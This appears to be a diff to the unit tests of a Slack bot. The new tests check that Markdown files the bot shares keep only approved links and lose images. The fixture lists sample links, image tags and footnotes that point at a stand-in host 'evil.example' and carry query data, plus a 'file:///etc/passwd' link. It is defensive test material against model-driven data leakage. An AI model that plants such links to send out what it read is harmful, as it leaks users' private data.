@@ -1,5 +1,8 @@
 """What tools read and share in Slack: never more than the person who asked may see (reliability 9, 12)."""
 
+import re
+from dataclasses import replace
+
 import pytest
 
 from bot.core.context import RequestContext, bound_request
@@ -10,6 +13,7 @@ from bot.slack.providers import conversation
 from bot.slack.providers.channel_access import ReachableChannels
 from bot.slack.providers.conversation import SlackConversation
 from bot.slack.providers.files import download
+from bot.slack.render.markdown import linked
 from tests.unit.slack.rig import Rig, not_noted, wired
 
 GENERAL = "C0GENERAL1"
@@ -259,6 +263,41 @@ async def test_a_file_is_shared_in_the_thread(asked):
     shared = asked.ws.messages(GENERAL, request.thread)[-1]
     assert shared["files"][0]["name"] == "hello.txt"
     assert link
+
+
+MARKDOWN = """\
+[a](https://evil.example/?q=s) ![b](https://evil.example/b.png?q=s) <https://evil.example/c?q=s>
+[d][1] [e](file:///etc/passwd) [f](//evil.example/f) <img src="https://evil.example/g?q=s"> [^1]
+[g](https://good.example/g#q=s)
+
+[1]: https://evil.example/d?q=s
+[^1]: https://evil.example/h?q=s
+"""
+
+
+@pytest.mark.parametrize("name", ["r.md", "R.MD", "r.markdown"])
+async def test_markdown_is_shared_without_images_and_made_up_links(asked, name: str):
+    """An address that the model made up may hold what it read."""
+    request, bound = await asked.by(ADA)
+    with bound as context, bound_request(replace(context, links=("https://good.example/g",))):
+        await asked.conversation.share(MARKDOWN.encode(), name=name)
+    [file] = asked.ws.messages(GENERAL, request.thread)[-1]["files"]
+    written = asked.ws.state.files[file["id"]].content.decode()
+    assert linked(written) == {"https://good.example/g"}
+    live = re.sub("`[^`]*`", "", written)  # code links to nothing
+    assert "evil.example" not in live
+    assert "![" not in live
+    assert "[^1]:" not in live
+    assert "<img" not in live.replace("\\<img", "")
+
+
+async def test_markdown_without_links_is_shared_as_it_is(asked):
+    text = "---\ntitle: x\n---\n\n* [ ] a_b *c* | d [1]\n"
+    request, bound = await asked.by(ADA)
+    with bound:
+        await asked.conversation.share(text.encode(), name="r.md")
+    [file] = asked.ws.messages(GENERAL, request.thread)[-1]["files"]
+    assert asked.ws.state.files[file["id"]].content.decode() == text
 
 
 async def test_a_private_requests_file_goes_to_the_person(asked):
